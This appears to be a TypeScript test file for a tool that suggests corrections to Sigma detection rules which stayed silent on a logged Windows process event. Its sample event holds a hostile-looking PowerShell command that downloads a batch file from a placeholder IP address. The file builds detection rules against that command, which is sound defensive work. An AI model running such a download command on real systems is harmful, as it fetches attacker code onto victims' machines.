/** What is suggested first for a rule that stayed silent on an event: the place and what should stand there. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { Detector, NearMissSearch } from '../../src/detect/index.ts'
import { type Event, eventFromObject } from '../../src/event/index.ts'
import { type Mend, type MendOptions, mendsOf } from '../../src/mend/index.ts'
import { applyEdits } from '../../src/sigma/index.ts'
import { event, rule } from '../detect/random-rules.ts'
import { loadEventRules } from '../sigma/event-rules.ts'
import { nearMisses } from './recordings.ts'

const SYSMON = 'Microsoft-Windows-Sysmon/Operational'

const ATTACK = {
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  OriginalFileName: 'PowerShell.EXE',
  CommandLine: 'powershell.exe -nop /c Invoke-WebRequest http://192.0.2.1/src/Discovery.bat -OutFile a.bat',
  ParentImage: 'C:\\Windows\\System32\\cmd.exe',
  ParentCommandLine: 'cmd.exe /c start',
  IntegrityLevel: 'High',
  TerminalSessionId: '1',
  User: 'CORP\\jane',
}

function attack(fields: { readonly [name: string]: unknown } = ATTACK, eventId = 1, channel = SYSMON): Event {
  return eventFromObject({ EventID: eventId, Channel: channel, ...fields }, { channel, eventId })
}

const LOGSOURCE = '{product: windows, category: process_creation}'

function ruleOf(detection: string, logsource = LOGSOURCE): string {
  return `title: Test\nlogsource: ${logsource}\ndetection:\n${detection.replace(/^(?=.)/gm, '  ')}\n`
}

function mends(text: string, events: readonly Event[] = [attack()], options?: MendOptions): readonly Mend[] {
  const near = nearMisses(text, events)
  expect(near?.matched).toBe(0)
  return mendsOf({ path: 'rule.yml', text }, near!, options)
}

/** `kind line:column current -> replacement`. */
function told({ kind, line, column, current, replacement }: Mend): string {
  return `${kind} ${line}:${column} ${current} -> ${replacement}`
}

const SEL = (key: string, value: string): string => `sel:\n  ${key}: ${value}\ncondition: sel`

describe('the first suggestion', () => {
  it.each<[what: string, detection: string, first: string]>([
    ['a letter dropped', SEL('CommandLine|contains', "'Disovery.bat'"), "typo 5:27 'Disovery.bat' -> 'Discovery.bat'"],
    [
      'letters swapped',
      SEL('Image|endswith', "'\\powerhsell.exe'"),
      "typo 5:21 '\\powerhsell.exe' -> '\\powershell.exe'",
    ],
    ['without quotes', SEL('CommandLine|contains', 'Disovery.bat'), 'typo 5:27 Disovery.bat -> Discovery.bat'],
    ['in double quotes', SEL('CommandLine|contains', '"src/Disovery"'), 'typo 5:27 "src/Disovery" -> "src/Discovery"'],
    [
      'around a wildcard',
      SEL('CommandLine', "'*invoke-webrequets*Discovery*'"),
      "typo 5:18 '*invoke-webrequets*Discovery*' -> '*invoke-webrequest*Discovery*'",
    ],
    [
      'another slash',
      SEL('CommandLine|contains', "'src\\Discovery.bat'"),
      "slash 5:27 'src\\Discovery.bat' -> 'src/Discovery.bat'",
    ],
    ['an en dash', SEL('CommandLine|contains', "'–nop'"), "slash 5:27 '–nop' -> '-nop'"],
    [
      'case under cased',
      SEL('CommandLine|contains|cased', "'discovery.bat'"),
      "case 5:33 'discovery.bat' -> 'Discovery.bat'",
    ],
    ['a number', SEL('TerminalSessionId', '2'), 'number 5:24 2 -> 1'],
    ['another word', SEL('IntegrityLevel', 'Medium'), 'value 5:21 Medium -> High'],
    ['a name for a path', SEL('Image', "'\\powershell.exe'"), 'modifier 5:5 Image -> Image|endswith'],
    ['the wrong end', SEL('Image|startswith', "'\\powershell.exe'"), 'modifier 5:11 startswith -> endswith'],
    [
      'not where it begins',
      SEL('CommandLine|startswith', "'Invoke-WebRequest'"),
      'modifier 5:17 startswith -> contains',
    ],
    ['the parent for the process', SEL('ParentImage|endswith', "'\\powershell.exe'"), 'field 5:5 ParentImage -> Image'],
    [
      'the file for the process',
      SEL('TargetFilename|endswith', "'\\powershell.exe'"),
      'field 5:5 TargetFilename -> Image',
    ],
    ['a field misspelt', SEL('ComandLine|contains', "'Discovery.bat'"), 'field-name 5:5 ComandLine -> CommandLine'],
    [
      'a field in other case',
      SEL('commandLine|contains', "'Discovery.bat'"),
      'field-name 5:5 commandLine -> CommandLine',
    ],
    ['a field nobody has', SEL('Colour', 'red'), 'field-absent 5:5 Colour -> null'],
    [
      'a regular expression',
      SEL('CommandLine|re', "'Invoke-WebReqest\\s+http'"),
      "typo 5:21 'Invoke-WebReqest\\s+http' -> 'Invoke-WebRequest\\s+http'",
    ],
    ['case of a regular expression', SEL('CommandLine|re', "'discovery\\.bat'"), 'case 5:17 re -> re|i'],
    ['a relation', SEL('TerminalSessionId|lt', '1'), 'modifier 5:23 lt -> gte'],
    [
      'all of alternatives',
      'sel:\n  Image|endswith|all: [\\pwsh.exe, \\powershell.exe, \\ps.exe]\ncondition: sel',
      'modifier 5:11 endswith|all -> endswith',
    ],
    ['negated', SEL('Image|endswith|neq', "'\\powershell.exe'"), 'modifier 5:11 endswith|neq -> endswith'],
    [
      'a star that is none',
      SEL('Image', "'C:\\Windows\\*\\powershell.exe'"),
      "escape 5:12 'C:\\Windows\\*\\powershell.exe' -> 'C:\\Windows\\\\*\\powershell.exe'",
    ],
    [
      'quotes in it',
      SEL('CommandLine|contains', `'"Discovery.bat"'`),
      `escape 5:27 '"Discovery.bat"' -> 'Discovery.bat'`,
    ],
    ['nothing like it', SEL('CommandLine|contains', 'mimikatz'), 'test 5:27 mimikatz -> null'],
  ])('%s: %s', (_what, detection, first) => {
    expect(told(mends(ruleOf(detection))[0]!)).toBe(first)
  })

  const TWO = "sel:\n  Image|endswith: '\\powershell.exe'\nfilter:\n  User|contains: jane\n"
  it.each<[what: string, detection: string, first: string]>([
    [
      'a not too many',
      `${SEL('Image|endswith', "'\\powershell.exe'").replace('condition: sel', 'condition: not sel')}`,
      'condition 6:14 not  -> ',
    ],
    ['a not too few', `${TWO.replace('jane', 'joe')}condition: sel and filter`, 'condition 8:22 filter -> not filter'],
    ['an exception', `${TWO}condition: sel and not filter`, 'filter 7:20 jane -> null'],
    [
      'one that fits all',
      `${TWO.replace('jane', "'*'")}condition: sel and not 1 of filter*`,
      "filter 7:20 '*' -> null",
    ],
    [
      'names the wrong way round',
      `${TWO.replace('jane', 'joe')}condition: filter and not sel`,
      'condition 8:14 filter and not sel -> sel and not filter',
    ],
    [
      'alternatives joined',
      "a:\n  Image|endswith: '\\pwsh.exe'\nb:\n  Image|endswith: '\\powershell.exe'\ncondition: a and b",
      'condition 8:16 and -> or',
    ],
    [
      'a pattern misspelt',
      "selection_a:\n  Image|endswith: '\\powershell.exe'\ncondition: 1 of selecton_*",
      'condition 6:19 selecton_* -> selection_*',
    ],
  ])('%s: %s', (_what, detection, first) => {
    expect(told(mends(ruleOf(detection))[0]!)).toBe(first)
  })

  it.each<[logsource: string, first: string]>([
    ['{product: windows, category: process_creaton}', 'logsource 2:41 process_creaton -> process_creation'],
    ['{product: windows, category: image_load}', 'logsource 2:41 image_load -> process_creation'],
    ['{product: linux, category: process_creation}', 'logsource 2:22 linux -> windows'],
    ['{product: windows, service: security}', 'logsource 2:40 security -> sysmon'],
  ])('log source %s', (logsource, first) => {
    const text = ruleOf(SEL('Image|endswith', "'\\powershell.exe'"), logsource)
    expect(told(mends(text)[0]!)).toBe(first)
  })

  it('tells what was recorded, and where', () => {
    const [first] = mends(ruleOf(SEL('CommandLine|contains', "'Disovery.bat'")))
    expect(first).toMatchObject({ isVerified: true, fires: 1, distance: 1, field: 'CommandLine', selection: 'sel' })
    expect(first!.actual!.slice(first!.offset!)).toMatch(/^Discovery\.bat/)
  })

  it('is of the event that came nearest, among many', () => {
    const others = Array.from({ length: 500 }, (_, i) =>
      attack({ ...ATTACK, CommandLine: `powershell.exe -File ${i}.ps1` }),
    )
    const events = [...others, attack(), ...others]
    const [first] = mends(ruleOf(SEL('CommandLine|contains', "'Disovery.bat'")), events)
    expect(told(first!)).toBe("typo 5:27 'Disovery.bat' -> 'Discovery.bat'")
  })
})

describe('suggestions', () => {
  it('that are not enough by themselves are not called verified', () => {
    const detection =
      "sel:\n  CommandLine|contains: 'Disovery.bat'\n  ParentImage|endswith: '\\wsmprovhost.exe'\ncondition: sel"
    const [first] = mends(ruleOf(detection))
    expect(told(first!)).toBe("typo 5:27 'Disovery.bat' -> 'Discovery.bat'")
    expect(first!.isVerified).toBe(false)
  })

  it('of the second document of a file have its lines', () => {
    const text = `${ruleOf(SEL('Image', 'x'))}---\n${ruleOf(SEL('CommandLine|contains', "'Disovery.bat'"))}`
    const near = nearMisses(text.split('---\n')[1]!, [attack()])!
    expect(told(mendsOf({ path: 'rule.yml', text, document: 1 }, near)[0]!)).toBe(
      "typo 12:27 'Disovery.bat' -> 'Discovery.bat'",
    )
  })

  it('blame a filter of another file where the rule alone fires', () => {
    const text = ruleOf(SEL('User|contains', 'jane')).replace('title: Test', 'title: Test\nname: test')
    const filter = `title: Not jane\nlogsource: ${LOGSOURCE}\nfilter:\n  rules: [test]\n  jane: {User|contains: jane}\n  condition: not jane\n`
    const { rules } = loadEventRules([
      { path: 'rule.yml', text },
      { path: 'filter.yml', text: filter },
    ])
    const search = new NearMissSearch(new Detector(rules), rules[0]!)
    search.add(attack())
    expect(mendsOf({ path: 'rule.yml', text }, search.result()).map(({ kind }) => kind)).toEqual(['filter-document'])
  })

  it('know the values of placeholders', () => {
    const text = ruleOf(SEL('User|contains|expand', "'%people%'"))
    const { rules } = loadEventRules([{ path: 'rule.yml', text }], { placeholders: { people: ['joe'] } })
    const search = new NearMissSearch(new Detector(rules), rules[0]!)
    search.add(attack())
    const source = { path: 'rule.yml', text }
    expect(mendsOf(source, search.result())).toEqual([])
    expect(mendsOf(source, search.result(), { placeholders: { people: ['joe'] } })).not.toEqual([])
  })

  it('there are none without events, nor for what is no rule', () => {
    expect(mends(ruleOf(SEL('Image', 'x')), [])).toEqual([])
    const near = nearMisses(ruleOf(SEL('Image', 'x')), [attack()])!
    expect(mendsOf({ path: 'rule.yml', text: 'title: broken' }, near)).toEqual([])
  })
})

describe('any rule and any event', () => {
  it('have suggestions that can be applied, and that fire where that is said', () => {
    let verified = 0
    fc.assert(
      fc.property(rule, event, (text, fields) => {
        const { rules } = loadEventRules([{ path: 'rule.yml', text }])
        if (rules.length === 0) return
        const [each] = rules
        const search = new NearMissSearch(new Detector(rules), each!)
        const one = eventFromObject(fields, { channel: SYSMON, eventId: 1 })
        search.add(one)
        const near = search.result()
        if (near.matched > 0) return
        for (const { edits, isVerified } of mendsOf({ path: 'rule.yml', text }, near)) {
          if (!isVerified) continue
          verified++
          const changed = loadEventRules([{ path: 'rule.yml', text: applyEdits(text, edits) }])
          expect(new Detector(changed.rules).match(one)).toHaveLength(1)
        }
      }),
      { numRuns: 150, seed: 11 },
    )
    expect(verified).toBeGreaterThan(10)
  })
})
